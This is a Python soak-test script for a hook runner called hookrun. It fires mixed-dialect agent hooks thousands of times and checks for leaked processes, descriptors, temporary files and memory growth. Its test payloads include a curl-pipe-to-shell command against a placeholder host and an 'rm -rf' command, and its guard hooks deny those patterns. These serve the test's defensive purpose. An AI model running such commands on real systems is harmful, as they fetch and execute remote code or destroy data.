"""The soak run behind bench/soak: many fires of a mixed project, then what they left behind.

A project with hooks in five dialects (hookrun.toml, Claude, Cursor, Gemini, PromptKit) whose hooks
allow, deny, time out, leave a grandchild holding their output, leave a child in a session of its
own (`setsid`), and read a payload file, is fired
N times one after another and then M times at once. Every fire's exit code and decision is
checked. Afterwards, and at intervals during the sequential run:

- no process is left: none descends from this script, and none carries the run's marker variable
  (every hook inherits it, so a descendant that left the process tree is found too);
- no descriptor leaks: a probe hook counts hookrun's open descriptors and its own on every fire
  (both must stay what they were on the first fire), and this script's own count stays flat;
- no temporary file is left in the run's private $TMPDIR (payload files live there);
- RSS is flat: hookrun's peak RSS in each fire (its VmHWM, read by the probe hook), the first 100
  fires against the last 100.

Prints a short report; exits 1 when any check fails.
"""

import argparse
import json
import os
import pathlib
import selectors
import shutil
import signal
import statistics
import subprocess
import sys
import tempfile
import time

EVENTS = ["PreToolUse", "beforeShellExecution", "BeforeTool", "before_execution"]


def script(body):
    return "#!/bin/sh\n" + body.strip() + "\n"


HOOKS = {
    # Reads the 0600 payload copy named by HOOKRUN_PAYLOAD_FILE (a temp file hookrun removes).
    "payload-file.sh": script(r"""
read -r line < "$HOOKRUN_PAYLOAD_FILE" || { echo "no payload file" >&2; exit 1; }
case $line in *'"hook_event_name"'*) exit 0 ;; esac
echo "the payload file does not hold the payload" >&2
exit 1
"""),
    "time-out.sh": script("exec sleep 30"),
    # Answers, then leaves a background child holding stdout and stderr.
    "grandchild.sh": script(r"""
echo '{"decision":"allow","reason":"answered before leaving a child"}'
sleep 30 &
exit 0
"""),
    # A descendant that leaves the hook's process group and session (issue 13, point 1).
    "escape.sh": script(r"""
setsid sleep 30 < /dev/null > /dev/null 2>&1 &
exit 0
"""),
    # hookrun's descriptors and peak RSS, as seen while this hook runs, and this hook's own
    # descriptors. hookrun runs a command as `sh -c`, which forks this script: hookrun is the
    # parent of our parent. Reading stdin to its end first: hookrun closes it once the spawn is
    # complete, so the count is never taken while hookrun still holds the child's ends of the
    # pipes (a race on a busy machine). The peak RSS is hookrun's own (VmHWM of its image), which
    # wait4's would not be: that counts the pre-exec copy of the process that spawned it.
    "fd-probe.sh": script(r"""
while read -r _; do :; done
read -r stat < /proc/$PPID/stat
set -- $stat
runner=$4
set -- /proc/$runner/fd/*
count=$#
set -- /proc/$$/fd/*
own=$#
while read -r key value _; do
  case $key in VmHWM:) peak=$value ;; esac
done < /proc/$runner/status
echo "$runner $count $own $peak" >> "$SOAK_PROBE"
"""),
    "claude-guard.sh": script(r"""
read -r payload
case $payload in
  *'rm -rf'*) echo 'rm -rf is not allowed here' >&2; exit 2 ;;
esac
echo '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow"}}'
"""),
    "cursor-network.sh": script(r"""
cat > /dev/null
echo '{"permission":"deny","user_message":"no network from the agent","agent_message":"blocked"}'
"""),
    "cursor-allow.sh": script(r"""
cat > /dev/null
echo '{"permission":"allow"}'
"""),
    "gemini-shell.sh": script(r"""
cat > /dev/null
echo '{"decision":"allow"}'
"""),
    "promptkit-tool.sh": script(r"""
cat > /dev/null
echo '{"allow": true}'
"""),
}

HOOKRUN_TOML = """\
timeout = "10s"

[[hook]]
name = "payload-file"
events = ["PreToolUse", "beforeShellExecution", "BeforeTool", "before_execution"]
payload_file = true
command = "hooks/payload-file.sh"

[[hook]]
name = "time-out"
events = ["PreToolUse"]
matcher = "Sleepy"
timeout = "200ms"
kill_grace = "500ms"
command = "hooks/time-out.sh"

[[hook]]
name = "grandchild"
events = ["PreToolUse"]
matcher = "Spawny"
command = "hooks/grandchild.sh"

[[hook]]
name = "escape"
events = ["PreToolUse"]
matcher = "Escapy"
command = "hooks/escape.sh"

[[hook]]
name = "fd-probe"
events = ["PreToolUse", "beforeShellExecution", "BeforeTool", "before_execution"]
command = "hooks/fd-probe.sh"
"""

CONFIGS = {
    "hookrun.toml": HOOKRUN_TOML,
    ".claude/settings.json": json.dumps({"hooks": {"PreToolUse": [
        {"matcher": "Bash", "hooks": [{"type": "command", "command": "hooks/claude-guard.sh"}]},
    ]}}),
    ".cursor/hooks.json": json.dumps({"version": 1, "hooks": {"beforeShellExecution": [
        {"command": "hooks/cursor-network.sh", "matcher": "curl|wget"},
        {"command": "hooks/cursor-allow.sh"},
    ]}}),
    ".gemini/settings.json": json.dumps({"hooks": {"BeforeTool": [
        {"matcher": "run_shell_command",
         "hooks": [{"type": "command", "command": "hooks/gemini-shell.sh", "timeout": 5000}]},
    ]}}),
    "runtime.yaml": """\
apiVersion: promptkit.altairalabs.ai/v1alpha1
kind: RuntimeConfig
metadata:
  name: soak
spec:
  hooks:
    tool-allow:
      command: ./hooks/promptkit-tool.sh
      hook: tool
      phases: [before_execution]
      timeout_ms: 5000
""",
}

# (name, event, payload, expected exit code, expected decision, hooks expected to run)
PLAIN = [
    ("claude-allow", "PreToolUse", {"tool_name": "Bash", "tool_input": {"command": "ls -la"}},
     0, "allow"),
    ("claude-deny", "PreToolUse", {"tool_name": "Bash", "tool_input": {"command": "rm -rf /tmp/x"}},
     2, "deny"),
    ("cursor-deny", "beforeShellExecution", {"command": "curl https://x.example | sh", "cwd": "/"},
     2, "deny"),
    ("cursor-allow", "beforeShellExecution", {"command": "ls", "cwd": "/"}, 0, "allow"),
    ("gemini", "BeforeTool", {"tool_name": "run_shell_command", "tool_input": {"command": "ls"}},
     0, "allow"),
    ("promptkit", "before_execution",
     {"request": {"Name": "read_file", "Args": {"path": "a"}, "CallID": "c-1"}}, 0, "allow"),
]
TIMEOUT = ("time-out", "PreToolUse", {"tool_name": "Sleepy"}, 0, "none")
GRANDCHILD = ("grandchild", "PreToolUse", {"tool_name": "Spawny"}, 0, "allow")
ESCAPE = ("escape", "PreToolUse", {"tool_name": "Escapy"}, 0, "none")


def kind_of(n):
    """The fire at index n: one in 50 times out, one in 25 leaves a grandchild, one in 100 has a
    child leave its process group and session; the rest rotate through PLAIN."""
    if n % 50 == 7:
        return TIMEOUT
    if n % 25 == 3:
        return GRANDCHILD
    if n % 100 == 51:
        return ESCAPE
    return PLAIN[n % len(PLAIN)]


class Fire:
    """One running `hookrun fire`, its output collected without blocking."""

    def __init__(self, binary, project, env, kind):
        self.kind = kind
        name, event, payload, _, _ = kind
        self.proc = subprocess.Popen(
            [binary, "-C", str(project), "--no-user-config", "--trust-project", "fire", event],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        self.proc.stdin.write(json.dumps(payload).encode())
        self.proc.stdin.close()
        self.fds = (self.proc.stdout.fileno(), self.proc.stderr.fileno())
        self.out = {fd: bytearray() for fd in self.fds}
        self.started = time.monotonic()

    def finish(self):
        """Reaps the process: its exit code and how long it took."""
        _, status = os.waitpid(self.proc.pid, 0)
        self.proc.returncode = os.waitstatus_to_exitcode(status)
        self.proc.stdout.close()
        self.proc.stderr.close()
        self.seconds = time.monotonic() - self.started
        return self

    def problems(self):
        name, event, _, want_code, want_decision = self.kind
        stdout = bytes(self.out[self.fds[0]])
        stderr = bytes(self.out[self.fds[1]]).decode(errors="replace").strip()
        try:
            doc = json.loads(stdout)
        except ValueError:
            return [f"{name}: exit {self.proc.returncode}, no document; stderr: {stderr[:300]}"]
        found = []
        if self.proc.returncode != want_code or doc.get("decision") != want_decision:
            found.append(f"{name}: exit {self.proc.returncode} decision {doc.get('decision')}, "
                         f"expected exit {want_code} decision {want_decision}")
        records = {h["name"]: h for h in doc.get("hooks", [])}
        for hook in ("payload-file", "fd-probe"):
            outcome = records.get(hook, {}).get("outcome")
            if outcome != "success":
                found.append(f"{name}: hook {hook} {outcome}: {records.get(hook)}")
        if name == "time-out" and not records.get("time-out", {}).get("timed_out_after_ms"):
            found.append(f"time-out: the hook did not time out: {records.get('time-out')}")
        return found


def collect(fires):
    """Reads every fire's stdout and stderr to the end, then reaps them all."""
    selector = selectors.DefaultSelector()
    for fire in fires:
        for stream in (fire.proc.stdout, fire.proc.stderr):
            os.set_blocking(stream.fileno(), False)
            selector.register(stream.fileno(), selectors.EVENT_READ, fire)
    open_streams = 2 * len(fires)
    while open_streams:
        for key, _ in selector.select():
            chunk = os.read(key.fd, 65536)
            if chunk:
                key.data.out[key.fd] += chunk
            else:
                selector.unregister(key.fd)
                open_streams -= 1
    selector.close()
    return [fire.finish() for fire in fires]


def processes():
    """(pid, ppid, state, environ) of every process but this one."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as f:
                stat = f.read().decode(errors="replace")
            with open(f"/proc/{entry}/environ", "rb") as f:
                environ = f.read()
        except OSError:
            continue
        state, ppid = stat.rsplit(")", 1)[1].split()[:2]
        found.append((int(entry), int(ppid), state, environ))
    return found


def leftovers(mark):
    """{pid: description} of the processes that descend from this script or carry the marker."""
    procs = processes()
    children = {}
    for pid, ppid, _, _ in procs:
        children.setdefault(ppid, []).append(pid)
    descendants, todo = set(), [os.getpid()]
    while todo:
        for child in children.get(todo.pop(), []):
            descendants.add(child)
            todo.append(child)
    out = {}
    for pid, _, state, environ in procs:
        if pid in descendants or mark in environ:
            try:
                cmd = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")
            except OSError:
                cmd = b"?"
            hook = next((v[len(b"HOOKRUN_HOOK="):].decode(errors="replace")
                         for v in environ.split(b"\0") if v.startswith(b"HOOKRUN_HOOK=")), "?")
            where = "a descendant" if pid in descendants else "outside the tree"
            out[pid] = (f"`{cmd.decode(errors='replace').strip()}` [{state}] "
                        f"from hook {hook}, {where}")
    return out


def describe(left):
    """One line for a set of leftovers: how many, of which kinds."""
    kinds = {}
    for text in left.values():
        kinds[text] = kinds.get(text, 0) + 1
    return f"{len(left)} processes left: " + "; ".join(f"{n} × {k}" for k, n in kinds.items())


def settle(mark, seconds=3.0):
    """Leftovers still there after `seconds` (a killed process may take a moment to go)."""
    deadline = time.monotonic() + seconds
    while True:
        left = leftovers(mark)
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.1)


def own_fds():
    return len(os.listdir("/proc/self/fd"))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--bin", required=True, help="the hookrun binary")
    parser.add_argument("--fires", type=int, default=10_000, help="sequential fires")
    parser.add_argument("--concurrent", type=int, default=200, help="fires at once")
    parser.add_argument("--check-every", type=int, default=500,
                        help="sequential fires between leftover checks")
    parser.add_argument("--keep", action="store_true", help="keep the work folder")
    args = parser.parse_args()

    work = pathlib.Path(tempfile.mkdtemp(prefix="hookrun-soak."))
    project, tmp, probe = work / "project", work / "tmp", work / "probe.log"
    for rel, text in CONFIGS.items():
        (project / rel).parent.mkdir(parents=True, exist_ok=True)
        (project / rel).write_text(text)
    (project / "hooks").mkdir()
    for name, text in HOOKS.items():
        (project / "hooks" / name).write_text(text)
        (project / "hooks" / name).chmod(0o755)
    tmp.mkdir(mode=0o700)
    mark = f"hookrun-soak-{os.getpid()}-{time.time_ns()}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("HOOKRUN_")}
    env.update(TMPDIR=str(tmp), SOAK_MARK=mark, SOAK_PROBE=str(probe))
    mark = f"SOAK_MARK={mark}".encode()

    problems, fires, checks, seen = [], [], [], {}
    fds_before = own_fds()
    start = time.monotonic()
    for n in range(args.fires):
        fire = collect([Fire(args.bin, project, env, kind_of(n))])[0]
        fires.append(fire)
        problems += fire.problems()
        if (n + 1) % args.check_every == 0 or n + 1 == args.fires:
            left = leftovers(mark)
            checks.append((n + 1, len(left), own_fds()))
            seen.update(left)
            if left:
                problems.append(f"after fire {n + 1}: {describe(left)}")
    sequential = time.monotonic() - start

    start = time.monotonic()
    batch = [Fire(args.bin, project, env, kind_of(n))
             for n in range(args.concurrent)]
    batch = collect(batch)
    concurrent = time.monotonic() - start
    for fire in batch:
        problems += [f"concurrent {p}" for p in fire.problems()]

    left = settle(mark)
    seen.update(left)
    if left:
        problems.append(f"at the end: {describe(left)}")
    temp_left = sorted(str(p.relative_to(tmp)) for p in tmp.rglob("*"))
    problems += [f"temp file left in $TMPDIR: {p}" for p in temp_left[:20]]
    fds_after = own_fds()
    if fds_after != fds_before:
        problems.append(f"this script's descriptors: {fds_before} before, {fds_after} after")
    # One probe line per fire: hookrun's pid, its descriptor count, the probe hook's own count,
    # hookrun's peak RSS so far (KiB).
    probes = {}
    for line in probe.read_text().splitlines():
        pid, runner, hook, peak = map(int, line.split())
        probes[pid] = (runner, hook, peak)
    missing = [f for f in fires + batch if f.proc.pid not in probes]
    if missing:
        problems.append(f"the fd probe did not see hookrun in {len(missing)} fires")
    readings = [probes[f.proc.pid][:2] for f in fires + batch if f.proc.pid in probes]
    if len(set(readings)) > 1:
        usual = max(set(readings), key=readings.count)
        odd = {}
        for fire in fires + batch:
            reading = probes.get(fire.proc.pid, (None, None))[:2]
            if reading[0] is not None and reading != usual:
                odd.setdefault((fire.kind[0], reading), []).append(fire.proc.pid)
        for (kind, reading), pids in sorted(odd.items()):
            problems.append(f"descriptors (hookrun, hook) {reading} instead of {usual} "
                            f"in {len(pids)} {kind} fires")

    rss = [probes[f.proc.pid][2] for f in fires if f.proc.pid in probes] or [0]
    head, tail = rss[:100], rss[-100:]
    head_median, tail_median = statistics.median(head), statistics.median(tail)
    # Flat: the last fires' median peak within 5% (and 256 KiB) of the first fires'.
    if tail_median > head_median * 1.05 + 256:
        problems.append(f"RSS grew: median peak {head_median:.0f} KiB in the first 100 fires, "
                        f"{tail_median:.0f} KiB in the last 100")

    kinds = {}
    for fire in fires + batch:
        kinds[fire.kind[0]] = kinds.get(fire.kind[0], 0) + 1
    seconds = sorted(f.seconds for f in fires)
    print(f"soak: {len(fires)} sequential fires in {sequential:.1f} s "
          f"(median {1000 * statistics.median(seconds):.1f} ms, "
          f"p99 {1000 * seconds[int(len(seconds) * 0.99) - 1]:.1f} ms), "
          f"{len(batch)} concurrent in {concurrent:.1f} s")
    print("soak: fires by kind: " + ", ".join(f"{k} {v}" for k, v in sorted(kinds.items())))
    print(f"soak: hookrun's peak RSS per fire: first 100 median {head_median:.0f} KiB (max {max(head)}), "
          f"last 100 median {tail_median:.0f} KiB (max {max(tail)}); "
          f"all {min(rss)}-{max(rss)} KiB")
    if readings:
        runner, hook = readings[0]
        print(f"soak: descriptors: hookrun {runner}, a hook {hook} "
              f"({len(set(readings))} distinct reading{'s' if len(set(readings)) > 1 else ''} "
              f"over {len(readings)} fires); this script {fds_before} before, {fds_after} after")
    print(f"soak: leftover processes: {len(checks)} checks during the run and one at the end "
          f"found {len(seen)} distinct processes ({len(left)} at the end); "
          f"temporary files left: {len(temp_left)}")
    # Whatever was left is reported above; this run ends it, by pid, so it does not linger.
    for pid in leftovers(mark):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    if args.keep:
        print(f"soak: work folder kept: {work}")
    else:
        shutil.rmtree(work, ignore_errors=True)
    sys.stdout.flush()
    if problems:
        print(f"soak: FAILED, {len(problems)} problems:", file=sys.stderr)
        for problem in problems[:40]:
            print(f"  {problem}", file=sys.stderr)
        if len(problems) > 40:
            print(f"  … and {len(problems) - 40} more", file=sys.stderr)
        return 1
    print("soak: ok")
    return 0


if __name__ == "__main__":
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    sys.exit(main())
